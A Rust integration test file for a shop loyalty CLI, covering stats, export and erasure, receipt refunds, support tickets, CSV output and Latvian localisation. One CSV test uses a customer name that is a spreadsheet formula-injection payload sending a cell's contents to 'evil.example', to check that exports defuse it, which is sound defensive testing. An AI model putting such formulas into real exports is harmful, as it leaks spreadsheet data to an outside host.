//! The owner's commands from the command line: stats (every figure, JSON and CSV, rebuilt
//! when they drifted), export, erase and backup, the demo, tickets and their bad input, a
//! refund by the receipt's number, and the shop's language.

use crate::cli::{refused, shop};
use crate::common::{db, fingerprint, run, run_json};

#[test]
fn stats_export_erase_and_backup() {
    let (dir, code, _) = shop();
    let d = dir.path();
    run_json(
        d,
        &["sale", "record", "--amount", "4.00", "--customer", &code],
    );
    run_json(d, &["sale", "record", "--amount", "9.00"]);
    let s = run_json(d, &["stats"]);
    assert_eq!(s["customers"], 1);
    assert_eq!(s["visits"], 3);
    assert_eq!(s["repeat_visit_rate"], 1.0);
    assert_eq!(s["points_outstanding"], 16);
    let export = run_json(d, &["customer", "export", &code]);
    assert_eq!(export["customer"]["name"], "Anna Byrne");
    assert_eq!(export["visits"].as_array().unwrap().len(), 2);
    assert_eq!(export["points_events"].as_array().unwrap().len(), 2);
    let backup = run_json(d, &["backup", "--to", d.join("copy.db").to_str().unwrap()]);
    assert!(backup["bytes"].as_u64().unwrap() > 0);
    let copy = rusqlite::Connection::open(d.join("copy.db")).unwrap();
    let visits: i64 = copy
        .query_row("SELECT COUNT(*) FROM visits", [], |r| r.get(0))
        .unwrap();
    assert_eq!(visits, 3);
    run_json(d, &["customer", "erase", &code, "--yes"]);
    let after = run_json(d, &["customer", "export", &code]);
    assert!(after["customer"]["name"].is_null());
    assert!(after["customer"]["phone"].is_null());
    assert_eq!(after["customer"]["balance"], 16);
    assert_eq!(after["visits"].as_array().unwrap().len(), 2);
    assert_eq!(run_json(d, &["stats"])["visits"], 3);
}

#[test]
fn demo_is_deterministic_and_refuses_a_real_shop() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    let args = ["demo", "--customers", "60", "--days", "90", "--seed", "7"];
    let ra = run_json(a.path(), &args);
    let rb = run_json(b.path(), &args);
    for k in ["customers", "visits", "refunds", "redemptions", "referrals"] {
        assert_eq!(ra[k], rb[k], "{k} differs between two runs with one seed");
    }
    assert_eq!(ra["customers"], 60);
    assert_eq!(
        run_json(a.path(), &["stats"]),
        run_json(b.path(), &["stats"])
    );
    crate::common::check_invariants(&crate::common::connect(crate::common::db(a.path())).unwrap());
    refused(a.path(), &args, 2, "already holds a shop");
}

#[test]
fn a_counter_sale_is_refunded_by_the_number_on_its_receipt() {
    let (dir, code, _) = shop();
    let d = dir.path();
    // Recorded without a till receipt number: its receipt shows "No. V<visit id>".
    let sale = run_json(
        d,
        &[
            "sale",
            "record",
            "--amount",
            "6.00",
            "--customer",
            &code,
            "--print",
        ],
    );
    let id = sale["visit_id"].as_i64().unwrap();
    let printed = std::fs::read_to_string(d.join("receipts/0001.txt")).unwrap();
    assert!(printed.contains(&format!("No. V{id}")), "{printed}");
    let r = run_json(d, &["sale", "refund", "--receipt", &format!("V{id}")]);
    assert_eq!(r["visit_id"], id);
    assert_eq!(r["points_reversed"], 6);
    // A till's own receipt number wins over the counter's form, and recording never reads it.
    let till = run_json(
        d,
        &[
            "sale",
            "record",
            "--amount",
            "2.00",
            "--receipt",
            &format!("V{id}"),
        ],
    );
    assert_eq!(till["duplicate"], false);
    let r = run_json(d, &["sale", "refund", "--receipt", &format!("V{id}")]);
    assert_eq!(r["visit_id"], till["visit_id"]);
}

#[test]
fn tickets_from_the_command_line_and_their_bad_input() {
    let dir = tempfile::tempdir().unwrap();
    let c = run_json(
        dir.path(),
        &[
            "customer",
            "add",
            "--name",
            "Ann Byrne",
            "--phone",
            "0871234567",
        ],
    );
    let code = c["code"].as_str().unwrap();
    run_json(
        dir.path(),
        &[
            "sale",
            "record",
            "--amount",
            "5.00",
            "--customer",
            code,
            "--receipt",
            "T-1",
        ],
    );
    let before = fingerprint(&db(dir.path()));
    for (args, says) in [
        (
            vec!["ticket", "add", "--summary", "x"],
            "needs a customer or a receipt",
        ),
        (
            vec!["ticket", "add", "--receipt", "T-404", "--summary", "x"],
            "no sale has the receipt number",
        ),
        (
            vec!["ticket", "add", "--customer", code, "--summary", "  "],
            "say in a few words",
        ),
        (
            vec![
                "ticket",
                "add",
                "--customer",
                code,
                "--summary",
                "x",
                "--severity",
                "7",
            ],
            "severity is 1",
        ),
        (
            vec![
                "ticket",
                "add",
                "--customer",
                code,
                "--summary",
                "x",
                "--contact-via",
                "fax",
            ],
            "--contact-via fax",
        ),
        (vec!["ticket", "resolve", "999"], "there is no ticket #999"),
        (vec!["ticket", "list", "--status", "lost"], "--status lost"),
    ] {
        let (exit, _, err) = run(dir.path(), &args);
        assert_eq!(exit, 2, "{args:?}: {err}");
        assert!(err.contains(says), "{args:?}: {err}");
    }
    assert_eq!(
        fingerprint(&db(dir.path())),
        before,
        "bad input changed nothing"
    );
    let t = run_json(
        dir.path(),
        &[
            "ticket",
            "add",
            "--receipt",
            "T-1",
            "--summary",
            "Wrong change",
            "--channel",
            "email",
            "--contact-via",
            "email",
            "--contact",
            "ann@example.ie",
        ],
    );
    assert_eq!(t["customer"], code, "the receipt's customer");
    assert_eq!(t["visit_id"], 1);
    let (_, out, _) = run(dir.path(), &["ticket", "list"]);
    assert!(
        out.contains("Ann Byrne") && out.contains("Wrong change") && out.contains("visit V1"),
        "{out}"
    );
    let (exit, _, err) = run(dir.path(), &["ticket", "confirm", "1"]);
    assert_eq!(exit, 2, "an open ticket cannot be confirmed");
    assert!(err.contains("cannot become"), "{err}");
    run_json(
        dir.path(),
        &[
            "ticket",
            "resolve",
            "1",
            "--note",
            "Refunded the difference",
        ],
    );
    let (_, out, _) = run(dir.path(), &["ticket", "list", "--follow-up"]);
    assert!(out.contains("Nothing to follow up"), "{out}");
    run_json(
        dir.path(),
        &["ticket", "confirm", "1", "--by", "phone call"],
    );
    let (_, out, _) = run(dir.path(), &["ticket", "show", "1"]);
    assert!(
        out.contains("resolved: Refunded the difference") && out.contains("confirmed"),
        "{out}"
    );
}

#[test]
fn stats_rebuild_finds_and_mends_aggregates_that_drifted() {
    let dir = tempfile::tempdir().unwrap();
    let c = run_json(dir.path(), &["customer", "add", "--name", "Ann"]);
    let code = c["code"].as_str().unwrap();
    run_json(
        dir.path(),
        &[
            "sale",
            "record",
            "--amount",
            "5.00",
            "--customer",
            code,
            "--receipt",
            "1",
        ],
    );
    run_json(dir.path(), &["sale", "record", "--amount", "3.00"]);
    run_json(
        dir.path(),
        &["sale", "refund", "--receipt", "1", "--amount", "2.00"],
    );
    let r = run_json(dir.path(), &["stats", "--rebuild"]);
    assert_eq!(r["matched"], true, "{r}");
    // Someone edits the file by hand: the rebuild notices and mends it.
    crate::common::connect(crate::common::db(dir.path()))
        .unwrap()
        .execute("UPDATE agg_days SET visits = visits + 5", [])
        .unwrap();
    let (exit, out, _) = run(dir.path(), &["stats", "--rebuild"]);
    assert_eq!(exit, 0);
    assert!(
        out.contains("differed") && out.contains("agg_days: 2 rows"),
        "{out}"
    );
    assert_eq!(
        run_json(dir.path(), &["stats", "--rebuild"])["matched"],
        true
    );
}

#[test]
fn stats_gives_every_figure_as_json_and_csv() {
    let dir = tempfile::tempdir().unwrap();
    let c = run_json(
        dir.path(),
        &["customer", "add", "--name", "Ann, \"the regular\""],
    );
    let code = c["code"].as_str().unwrap();
    for amount in ["4.00", "6.00"] {
        run_json(
            dir.path(),
            &["sale", "record", "--amount", amount, "--customer", code],
        );
    }
    run_json(dir.path(), &["sale", "record", "--amount", "3.00"]);
    let s = run_json(dir.path(), &["stats"]);
    for key in [
        "customers",
        "visits",
        "repeat_visit_rate",
        "points_outstanding",
    ] {
        assert!(!s[key].is_null(), "contract field {key}: {s}");
    }
    let f = &s["figures"];
    assert_eq!(f["visits"], 3);
    assert_eq!(f["repeat_members"], 1);
    assert_eq!(f["top_by_spend"][0]["spend"], 1000);
    assert_eq!(f["frequency"][1], serde_json::json!(["2", 1]));
    let out = dir.path().join("export");
    let (exit, text, err) = run(dir.path(), &["stats", "--csv", out.to_str().unwrap()]);
    assert_eq!(exit, 0, "{err}");
    assert!(text.contains("Wrote 13 CSV files"), "{text}");
    let top = std::fs::read_to_string(out.join("top_by_spend.csv")).unwrap();
    assert!(
        top.contains("\"Ann, \"\"the regular\"\"\""),
        "quoted as CSV: {top}"
    );
    let visits = std::fs::read_to_string(out.join("visits.csv")).unwrap();
    assert_eq!(visits.lines().count(), 4, "{visits}");
    // A customer who joined as a formula is text in the owner's spreadsheet, in every file.
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
    let code = run_json(dir.path(), &["customer", "add", "--name", evil])["code"]
        .as_str()
        .unwrap()
        .to_string();
    run_json(
        dir.path(),
        &["sale", "record", "--amount", "99.00", "--customer", &code],
    );
    let (exit, _, err) = run(dir.path(), &["stats", "--csv", out.to_str().unwrap()]);
    assert_eq!(exit, 0, "{err}");
    for name in ["top_by_spend.csv", "top_by_visits.csv"] {
        let text = std::fs::read_to_string(out.join(name)).unwrap();
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = rows
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        assert!(
            cells.iter().any(|c| c == &format!("'{evil}")),
            "{name}: {text}"
        );
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '@']) || c.parse::<f64>().is_ok()),
            "{name}: {text}"
        );
    }
    // A bad range is refused with a message.
    let (exit, _, err) = run(dir.path(), &["stats", "--from", "2026-13-01"]);
    assert_eq!(exit, 2);
    assert!(err.contains("is not a date"), "{err}");
}

#[test]
fn the_command_line_speaks_the_shops_language() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("config.toml"),
        "[shop]\nname = \"Kafejnīca\"\ncurrency = \"EUR\"\nlanguage = \"lv\"\n",
    )
    .unwrap();
    let (code, out, err) = run(
        d,
        &[
            "customer",
            "add",
            "--name",
            "Līga Kalniņa",
            "--language",
            "lv",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("Pievienots Līga Kalniņa: karte "), "{out}");
    let card = out
        .split("karte ")
        .nth(1)
        .unwrap()
        .split(',')
        .next()
        .unwrap()
        .to_string();
    // The amount is typed the Latvian way, and shown so.
    let (code, out, err) = run(
        d,
        &["sale", "record", "--amount", "12,50", "--customer", &card],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("Pirkums 12,50\u{a0}€ reģistrēts"), "{out}");
    assert!(out.contains("+12 punktu, atlikums 12"), "{out}");
    assert!(out.contains("vēl 9 apmeklējumi līdz"), "{out}");
    let (_, shown, _) = run(d, &["customer", "show", &card]);
    assert!(shown.contains("atlikums   12 punktu"), "{shown}");
    // The owner's figures in Latvian too.
    let (_, stats, _) = run(d, &["stats"]);
    assert!(stats.contains("Klienti: 1"), "{stats}");
    assert!(
        stats.contains("Pārdošana: 12,50\u{a0}€ (atmaksas 0,00\u{a0}€)"),
        "{stats}"
    );
    // JSON stays language-neutral.
    let json = run_json(d, &["customer", "show", &card]);
    assert_eq!(json["balance"], 12);
    // The language is part of what is held about her: exported, and erased with the rest.
    assert_eq!(
        run_json(d, &["customer", "export", &card])["customer"]["language"],
        "lv"
    );
    run_json(d, &["customer", "erase", &card, "--yes"]);
    assert!(run_json(d, &["customer", "export", &card])["customer"]["language"].is_null());
    // A language that is not shipped is refused with the list.
    let (code, _, err) = run(d, &["customer", "add", "--name", "X", "--language", "de"]);
    assert_ne!(code, 0);
    assert!(
        err.contains("the languages are en, fil, lv, sr-Cyrl, sr-Latn, te"),
        "{err}"
    );
}
